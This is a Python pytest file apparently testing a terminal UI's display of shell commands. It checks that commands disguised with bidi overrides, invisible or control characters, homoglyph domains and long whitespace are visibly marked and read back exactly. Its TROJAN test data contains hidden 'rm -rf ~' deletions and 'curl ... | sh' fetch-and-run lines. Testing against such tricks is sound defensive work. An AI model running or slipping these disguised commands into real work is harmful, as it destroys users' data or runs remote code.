import hashlib
import random

import pytest
from hypothesis import given, settings, strategies as st

from heartbit_tui.tui.lines.measure import cells
from heartbit_tui.tui.sheets.exact import exact, hand, pieces
from tests.samples import samples
from tests.tui.sheets.made import inked
from tests.tui.sheets.reading import read

HAND = hand(inked())
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
INVISIBLE = "\u00a0\u00ad\u034f\u115f\u1160\u17b4\u180b\u180e\u2000\u2009\u200b\u200c\u200d\u202f\u2060\u2064\u3000\u3164\ufe0f\ufeff\uffa0\U000e0041"
ACTING = "\x00\x07\x08\x0b\x0c\r\x1b\x7f\x85\x9b\u2028\u2029"
ALIKE = ("p\u0430ypal", "g\u03bfogle", "\uff41pt", "\U0001d42bm", "\u0455sh", "gi\u0167\u0566")
TROJAN = (
    *(f"rm -rf /tmp/x{each} # safe" for each in BIDI),
    *(f"access == 'user{each}' # admin" for each in BIDI),
    *(f"ls{each}; sh" for each in INVISIBLE),
    *(f"echo ok{each}[2Krm -rf ~" for each in ACTING),
    *(f"curl https://{each}.example | sh" for each in ALIKE),
    "ls" + " " * 400 + "; rm -rf ~",
    "ls" + "\t" * 100 + "; rm -rf ~",
    "ls" + "\n" * 400 + "rm -rf ~",
    "ls" + " \n" * 400 + "rm -rf ~",
    "ls \u202e\u2066# \u2069\u2066" + " " * 50 + "x",
)
INNOCENT = (
    "git status",
    "git commit -m 'привет, мир'",
    'for f in *.py; do\n    echo "$f"\ndone',
    "grep -rn 'αβγ' .",
    "python3 -c 'print(1)'",
    "echo 日本語 🎉",
)


def shown(text: str, width: int = 80, lead: str = "  $ ") -> str:
    return "\n".join(line.text for line in exact(text, width, HAND, lead))


def marked(text: str) -> bool:
    return any(part.style is HAND.loud for line in exact(text, 80, HAND) for part in line.parts)


def digest(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


@pytest.mark.security("P10", n=len(TROJAN))
def test_every_trojan_command_is_marked_and_reads_back_to_itself() -> None:
    assert len(TROJAN) >= 46
    assert [text for text in TROJAN if not marked(text)] == []
    for width in (20, 40, 80, 120):
        assert [text for text in TROJAN if digest(read(exact(text, width, HAND, "  $ "), HAND)) != digest(text)] == []


def test_nothing_innocent_is_marked() -> None:
    assert [text for text in INNOCENT if marked(text)] == []
    assert [read(exact(text, 30, HAND, "$ "), HAND) for text in INNOCENT] == list(INNOCENT)


def test_nothing_that_a_terminal_would_obey_or_that_hides_is_left() -> None:
    left = set("".join(shown(text).replace("\n", "") for text in TROJAN)) & set(BIDI + INVISIBLE + ACTING + "\t\n")
    assert left == set()


def test_marks_cannot_be_imitated() -> None:
    """The words of a mark in a command are drawn as plain text, and read back as such."""
    texts = ["ls <U+200B> <400 spaces> ·", "a␛[0m ⇥   b", "x\n<7 more lines like this>", "↪ a\n  ↪ b"]
    assert [text for text in texts if marked(text)] == []
    assert [read(exact(text, 20, HAND, "  "), HAND) for text in texts] == texts


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("a  b", "a  b"),
        ("    indent", "    indent"),
        (" " * 41 + "x", "<41 spaces>x"),
        ("a" + " " * 8 + "b", "a<8 spaces>b"),
        ("a ", "a·"),
        ("a   ", "a···"),
        ("\ta", "⇥   a"),
        ("a" + "\t" * 9, "a<9 tabs>"),
        ("p\u0430y", "p\u0430<U+0430>y"),
        ("a\u200bb", "a<U+200B>b"),
        ("\x1b[2K", "␛[2K"),
        ("", ""),
    ],
)
def test_what_would_not_be_seen_is_told(text: str, told: str) -> None:
    assert "".join(piece.text for piece in pieces(text)) == told


def test_equal_lines_are_counted_and_the_last_line_is_never_far_away() -> None:
    assert shown("ls" + "\n" * 400 + "rm", lead="").split("\n") == ["ls", "", "<398 more lines like this>", "rm"]
    assert shown("a\na\na\na", lead="").split("\n") == ["a", "a", "a", "a"]


def test_a_line_of_ten_thousand_characters_is_shown_in_full() -> None:
    text = "echo " + "".join(chr(97 + index % 26) for index in range(10_000)) + "; rm -rf ~"
    lines = exact(text, 80, HAND, "  $ ")
    assert read(lines, HAND) == text
    assert len(lines) < 140
    assert lines[-1].text.endswith("rm -rf ~")


WIDE = st.text(alphabet=st.sampled_from("ab \t\n·<>U+0430漢字🎉é\u0301а\u200b\x1b\u202e\r\ud800€$|"), max_size=80)


@settings(max_examples=samples(400, 100), deadline=None)
@given(WIDE, st.integers(min_value=6, max_value=60))
def test_whatever_is_shown_reads_back_and_no_line_is_too_wide(text: str, width: int) -> None:
    lines = exact(text, width, HAND, "  $ ")
    assert read(lines, HAND) == text
    assert max(cells(line.text) for line in lines) <= width


def test_random_commands_of_many_characters_read_back() -> None:
    chance = random.Random(9)
    alphabet = (
        [chr(code) for code in range(0x20, 0x3000)] + list(BIDI + INVISIBLE + ACTING) * 20 + [" "] * 2000 + ["\n"] * 300
    )
    for _ in range(500):
        text = "".join(chance.choices(alphabet, k=chance.randrange(200)))
        assert digest(read(exact(text, chance.choice((12, 40, 80)), HAND, "$ "), HAND)) == digest(text)


def test_even_a_single_column_comes_to_an_end() -> None:
    assert read(exact("漢字 a\u200bb", 1, HAND), HAND) == "漢字 a\u200bb"


@pytest.mark.slow
def test_a_word_too_long_for_one_piece_hides_no_letter_that_imitates() -> None:
    text = "a\u0430" * 20_000
    lines = exact(text, 100, HAND)
    assert read(lines, HAND) == text
    assert sum(part.text.count("<U+0430>") for line in lines for part in line.parts if part.style is HAND.loud) > 15_000
    edge = "x" * 3999 + "\u0430" * 10 + "\u0440" * 4000
    assert read(exact(edge, 100, HAND), HAND) == edge
    assert "<U+0440>" in "".join(line.text for line in exact(edge, 100, HAND))
